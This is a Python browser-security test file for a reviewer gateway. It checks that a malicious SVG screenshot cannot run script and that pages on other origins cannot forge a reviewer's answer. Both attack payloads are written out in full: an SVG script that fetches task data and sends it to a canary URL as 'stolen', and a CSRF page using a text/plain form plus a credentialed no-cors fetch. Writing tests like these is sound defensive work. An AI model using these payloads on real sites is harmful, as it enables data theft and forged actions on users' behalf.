"""In real Chromium: a client's SVG screenshot runs nothing, and pages on other
origins (another site, or this site on another port) cannot act as the reviewer.

A canary server on another port records any request a script could make; the
attacker pages are served by that same server.
"""

from __future__ import annotations

import base64
import json
import uuid
from collections.abc import Iterator

import pytest
from aiohttp import web
from browser import DESKTOP, LAPTOP, Watched, requires_chromium, sdk_client
from browser import browser as browser  # the module-scoped fixture
from browser import watched as watched
from harness import Gateway, ThreadedServer, run_gateway
from playwright.sync_api import expect
from reviewer_client import Reviewer, background

pytestmark = requires_chromium
TOKEN = "tok-alice-secure"


class Attacker:
    """Pages on another origin, and a log of every request that reached it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.pages: dict[str, str] = {}
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self.serve)
        self.server = ThreadedServer(app)

    async def serve(self, request: web.Request) -> web.Response:
        name = request.match_info["tail"]
        if name in self.pages:
            return web.Response(text=self.pages[name], content_type="text/html")
        self.hits.append(request.path_qs)
        return web.Response(text="seen")

    def url(self, name: str, host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.server.port}/{name}"


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    attacker = Attacker()
    with attacker.server:
        yield attacker


@pytest.fixture(scope="module")
def gateway(tmp_path_factory) -> Iterator[Gateway]:
    config = f'[auth]\nreviewer_tokens = {{ alice = "{TOKEN}" }}\n'
    with run_gateway(tmp_path_factory.mktemp("browser-security"), config) as gateway:
        yield gateway


def sign_in(watched: Watched, gateway: Gateway) -> None:
    page = watched.page
    page.goto(gateway.url)
    page.locator("#login-token").fill(TOKEN)
    page.locator("#login-token").press("Enter")
    expect(page.locator("#conn")).to_have_text("live")


def ask(gateway: Gateway, content, session: str):
    client = sdk_client(gateway)
    return background(
        client.chat.completions.create,
        model="human",
        messages=[{"role": "user", "content": content}],
        extra_headers={"x-session-id": session},
    )


def svg_with_script(canary: str) -> str:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">'
        f"<script>alert('svg ran'); fetch('{canary}');"
        "fetch('/api/tasks').then(r => r.text()).then(t => fetch("
        f"'{canary}?stolen=' + encodeURIComponent(t)))</script>"
        '<rect width="40" height="40" fill="red"/></svg>'
    )
    return "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()


def test_an_svg_screenshot_with_script_runs_nothing(gateway, attacker, watched):
    session = f"svg-{uuid.uuid4().hex[:8]}"
    text = f"look {session}"
    image = {"type": "image_url", "image_url": {"url": svg_with_script(attacker.url("svg"))}}
    reply = ask(gateway, [{"type": "text", "text": text}, image], session)
    reviewer = Reviewer(gateway.url, token=TOKEN)
    task = reviewer.wait_for_task(lambda t: t["preview"] == text)
    sign_in(watched, gateway)
    page = watched.page
    row = page.locator(f'.group[data-session="{session}"] .task-row')
    expect(row).to_have_count(1)
    row.click()
    # The workspace says what it will not show.
    expect(page.locator("#no-shot")).to_contain_text("not a PNG, JPEG, GIF or WebP")
    for size in (LAPTOP, DESKTOP):
        page.set_viewport_size(size)
        watched.snap(f"unshown-screenshot-{size['width']}")
    # Opened directly, in the signed-in browser, as a link or a typed URL would.
    link = f"{gateway.url}/api/tasks/{task['id']}/images/0"
    direct = watched.context.new_page()
    response = direct.goto(link)
    assert response is not None and response.status == 415
    assert response.headers["content-security-policy"] == "sandbox; default-src 'none'"
    assert json.loads(direct.locator("body").inner_text())["error"]["code"] == "unsupported_image"
    direct.wait_for_timeout(300)  # room for a script to have run, were there one
    assert watched.dialogs == []
    assert attacker.hits == []
    assert reviewer.answer(task["id"], content="a red square").status == 200
    assert reply.result(timeout=10).choices[0].message.content == "a red square"


def forging_page(gateway: Gateway, task_id: str) -> str:
    """An HTML form and a no-cors fetch, both answering the task as the reviewer."""
    target = f"{gateway.url}/api/tasks/{task_id}/answer"
    return f"""<!doctype html><html><body>
<form id="f" method="POST" action="{target}" enctype="text/plain">
<input name='{{"content": "forged by form", "x": "' value='"}}'></form>
<script>
fetch("{target}", {{method: "POST", mode: "no-cors", credentials: "include",
  headers: {{"content-type": "text/plain"}}, body: '{{"content": "forged by fetch"}}'}})
  .finally(() => document.getElementById("f").submit());
</script></body></html>"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["same-site", "cross-site"])
def test_pages_on_other_origins_cannot_answer_a_task(gateway, attacker, watched, host):
    session = f"forge-{host}-{uuid.uuid4().hex[:8]}"
    text = f"forge {session}"
    reply = ask(gateway, text, session)
    reviewer = Reviewer(gateway.url, token=TOKEN)
    task = reviewer.wait_for_task(lambda t: t["preview"] == text)
    sign_in(watched, gateway)  # the reviewer is signed in, in this browser
    name = f"forge-{uuid.uuid4().hex[:8]}.html"
    attacker.pages[name] = forging_page(gateway, task["id"])
    page = watched.page
    with page.expect_navigation(url=f"{gateway.url}/api/tasks/{task['id']}/answer"):
        page.goto(attacker.url(name, host))
    refused = json.loads(page.locator("body").inner_text())
    assert refused["error"]["code"] in ("cross_origin", "unsupported_media_type")
    assert reviewer.task(task["id"])["status"] == "pending"
    assert reviewer.answer(task["id"], content="the real answer").status == 200
    assert reply.result(timeout=10).choices[0].message.content == "the real answer"
